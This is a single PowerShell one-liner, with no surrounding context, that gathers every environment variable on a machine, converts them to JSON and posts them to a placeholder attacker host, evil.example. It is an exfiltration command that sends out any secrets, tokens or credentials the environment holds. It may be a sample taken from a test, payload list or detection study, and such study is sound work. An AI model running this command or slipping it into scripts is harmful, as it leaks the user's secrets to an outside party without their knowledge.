Get-ChildItem env: | ConvertTo-Json | Invoke-RestMethod -Method Post -Uri https://evil.example
